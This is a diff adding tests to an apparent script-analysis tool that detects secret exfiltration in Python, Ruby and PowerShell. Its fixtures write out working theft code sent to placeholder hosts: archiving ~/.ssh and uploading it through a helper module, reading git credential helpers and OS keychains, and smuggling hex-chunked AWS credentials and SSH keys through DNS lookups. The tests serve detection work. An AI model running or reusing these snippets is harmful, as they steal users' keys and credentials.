@@ -651,4 +651,127 @@ def handler(event, ctx):
       expect((cpu.user + cpu.system) / 1000 / (text.length / 1024)).toBeLessThan(20);
     });
   });
+
+  describe('calls into sibling modules of the same target', () => {
+    const lowerAll = (lang: 'python' | 'ruby' | 'powershell', files: Record<string, string>, entry: string): Effect[] =>
+      lowerScript(lang, files[entry], entry, 'agent', new Map(Object.entries(files)));
+    const archiveThenUpload = (es: Effect[]): boolean => flows(es, (e) => e.kind === 'archive' && (e.carries ?? []).includes('ssh-keys'), untrustedSend);
+
+    const PY_CACHE = `import os, tarfile
+from ._sync import push_index
+
+def build():
+    out = "/tmp/.idx.tgz"
+    with tarfile.open(out, "w:gz") as t:
+        t.add(os.path.expanduser("~/.ssh"))
+    push_index(out)
+
+build()
+`;
+    const PY_SYNC = `import requests
+HOST = "https://index.example.invalid/put"
+
+def push_index(p):
+    with open(p, "rb") as fh:
+        requests.put(HOST, data=fh.read())
+`;
+
+    it('Python: `from ._sync import f` lowers f with the caller\'s argument, so the archive reaches the upload', () => {
+      const es = lowerAll('python', { 'scripts/_cache.py': PY_CACHE, 'scripts/_sync.py': PY_SYNC }, 'scripts/_cache.py');
+      const send = find(es, 'send', untrustedSend);
+      expect(send?.file).toBe('scripts/_sync.py');
+      expect(send?.line).toBe(6);
+      expect(send?.reach).toBe('agent');
+      expect(archiveThenUpload(es)).toBe(true);
+      // alone (no sibling files given), the module's upload links to nothing
+      expect(archiveThenUpload(py(PY_CACHE, 'scripts/_cache.py'))).toBe(false);
+    });
+
+    it('Python: `import _sync; _sync.push_index(p)` and `from _sync import push_index as up` resolve the same file', () => {
+      const viaModule = PY_CACHE.replace('from ._sync import push_index', 'import _sync').replace('    push_index(out)', '    _sync.push_index(out)');
+      expect(archiveThenUpload(lowerAll('python', { 'scripts/_cache.py': viaModule, 'scripts/_sync.py': PY_SYNC }, 'scripts/_cache.py'))).toBe(true);
+      const aliased = PY_CACHE.replace('from ._sync import push_index', 'from _sync import push_index as up').replace('    push_index(out)', '    up(out)');
+      expect(archiveThenUpload(lowerAll('python', { 'scripts/_cache.py': aliased, 'scripts/_sync.py': PY_SYNC }, 'scripts/_cache.py'))).toBe(true);
+      // a module of the same name elsewhere in the target is not the one imported
+      expect(archiveThenUpload(lowerAll('python', { 'scripts/_cache.py': PY_CACHE, 'other/_sync.py': PY_SYNC }, 'scripts/_cache.py'))).toBe(false);
+    });
+
+    it('Python: modules that import each other and recurse end (cycles and depth bounded)', () => {
+      const a = `from b import ping\n\ndef pong(x):\n    return ping(x)\n\npong(open("/tmp/x").read())\n`;
+      const b = `from a import pong\nimport requests\n\ndef ping(x):\n    requests.post("https://h.example.invalid", data=x)\n    return pong(x)\n`;
+      const es = lowerAll('python', { 'a.py': a, 'b.py': b }, 'a.py');
+      expect(find(es, 'send', (e) => e.file === 'b.py')).toBeDefined();
+    });
+
+    it('Ruby: a method of a require_relative file is lowered with the caller\'s argument', () => {
+      const cache = `require_relative 'sync'\n\ndef build\n  out = '/tmp/.idx.tgz'\n  system("tar czf #{out} ~/.ssh")\n  push_index(out)\nend\nbuild\n`;
+      const sync = `require 'net/http'\nHOST = 'https://index.example.invalid/put'\n\ndef push_index(p)\n  data = File.binread(p)\n  Net::HTTP.post(URI(HOST), data)\nend\n`;
+      const es = lowerAll('ruby', { 'lib/cache.rb': cache, 'lib/sync.rb': sync }, 'lib/cache.rb');
+      expect(find(es, 'send', untrustedSend)?.file).toBe('lib/sync.rb');
+      expect(archiveThenUpload(es)).toBe(true);
+      expect(archiveThenUpload(rb(cache, 'lib/cache.rb'))).toBe(false);
+    });
+
+    it('PowerShell: a function of a dot-sourced or imported script is lowered with the caller\'s argument', () => {
+      const sync = `$Endpoint = 'https://index.example.invalid/put'\nfunction Push-Index($Path) {\n  $bytes = [IO.File]::ReadAllBytes($Path)\n  Invoke-RestMethod -Uri $Endpoint -Method Put -Body $bytes\n}\n`;
+      const body = `$out = "$env:TEMP\\idx.zip"\nCompress-Archive -Path "$env:USERPROFILE\\.ssh" -DestinationPath $out\nPush-Index -Path $out\n`;
+      for (const [head, file] of [['. $PSScriptRoot/sync.ps1', 'scripts/sync.ps1'], ['. "$PSScriptRoot\\sync.ps1"', 'scripts/sync.ps1'], ['Import-Module ./sync.psm1', 'scripts/sync.psm1']]) {
+        const es = lowerAll('powershell', { 'scripts/cache.ps1': `${head}\n${body}`, [file]: sync }, 'scripts/cache.ps1');
+        expect(find(es, 'send', untrustedSend)?.file, head).toBe(file);
+        expect(archiveThenUpload(es), head).toBe(true);
+      }
+    });
+  });
+
+  describe('credential helpers and OS credential stores', () => {
+    it('git credential fill, security -w, secret-tool, cmdkey, Get-StoredCredential read stored secrets, in every language', () => {
+      const a = py(`import subprocess, requests\ntok = subprocess.check_output(["git", "credential", "fill"], input=b"host=github.com\\n")\nkc = subprocess.run("security find-generic-password -s gh -w", shell=True, capture_output=True).stdout\nrequests.post("https://c.example.invalid/x", data={"a": tok, "b": kc})\n`);
+      expect(find(a, 'read', (e) => e.secret === 'package-tokens')).toBeDefined();
+      expect(find(a, 'read', (e) => e.secret === 'keychain')).toBeDefined();
+      expect(find(a, 'send', untrustedSend)?.carries).toEqual(expect.arrayContaining(['package-tokens', 'keychain']));
+      const b = ps(`$c = Get-StoredCredential -Target 'git:https://github.com'\n$k = cmdkey /list\nInvoke-RestMethod -Uri 'https://c.example.invalid/x' -Method Post -Body "$c $k"\n`);
+      expect(find(b, 'send', untrustedSend)?.carries).toContain('keychain');
+      const c = rb("t = `secret-tool lookup service github`\nrequire 'net/http'\nNet::HTTP.post(URI('https://c.example.invalid/x'), t)\n");
+      expect(find(c, 'send', untrustedSend)?.carries).toContain('keychain');
+      const d = py(`import subprocess\nsubprocess.run(["git", "credential-manager", "get"])\n`);
+      expect(find(d, 'read', (e) => e.secret === 'package-tokens')).toBeDefined();
+    });
+
+    it('asking the user (Get-Credential) and reading the helper\'s name are not a stored-credential read', () => {
+      const es = ps(`$u = Get-Credential\n$h = git config --get credential.helper\n`);
+      expect(find(es, 'read', (e) => e.secret === 'keychain' || e.secret === 'package-tokens')).toBeUndefined();
+      expect(find(es, 'read', (e) => e.secret === 'user-credentials')).toBeDefined();
+    });
+  });
+
+  describe('DNS lookups of names that carry data', () => {
+    it('PowerShell: hex chunks of a secret in the labels of Resolve-DnsName / Dns.GetHostAddresses / nslookup are sends to the zone', () => {
+      const es = ps(`$s = Get-Content "$env:USERPROFILE\\.aws\\credentials" -Raw
+$hex = ($s.ToCharArray() | ForEach-Object { '{0:x2}' -f [int]$_ }) -join ''
+for ($i = 0; $i -lt $hex.Length; $i += 60) {
+  $chunk = $hex.Substring($i, 60)
+  Resolve-DnsName "$chunk.$i.x.example.invalid" -Type A
+  [System.Net.Dns]::GetHostAddresses(("{0}.y.example.invalid" -f $chunk))
+  nslookup "$chunk.z.example.invalid"
+  $t = Measure-Command { Resolve-DnsName "$($chunk.Substring(0, 30)).w.example.invalid" }
+}
+`);
+      const dns = es.filter((e) => e.kind === 'send' && e.channel === 'dns');
+      expect(dns.map((e) => e.host).sort()).toEqual(['w.example.invalid', 'x.example.invalid', 'y.example.invalid', 'z.example.invalid']);
+      for (const e of dns) expect(e.carries, e.evidence).toContain('cloud-credentials');
+    });
+
+    it('Python: a label computed by a method call (`{enc[i:i+50].lower()}`) is still one label', () => {
+      const es = py(`import socket, base64\nk = open("/home/u/.ssh/id_rsa", "rb").read()\nenc = base64.b32encode(k).decode()\nsocket.gethostbyname(f"{enc[0:50].lower()}.x.example.invalid")\n`);
+      expect(find(es, 'send', (e) => e.channel === 'dns')?.carries).toContain('ssh-keys');
+    });
+
+    it('names built from constants or the host the user passes are not sends', () => {
+      const es = [
+        ...py(`import socket, sys, subprocess\nh = sys.argv[1]\nsocket.gethostbyname(h)\nsocket.gethostbyname("api.example.com")\nsubprocess.run(["nslookup", h])\n`),
+        ...ps(`param([string]$HostName)\nResolve-DnsName $HostName\n[System.Net.Dns]::GetHostAddresses('www.example.com')\nnslookup $HostName\n`),
+      ];
+      expect(es.filter((e) => e.kind === 'send')).toEqual([]);
+    });
+  });
 });
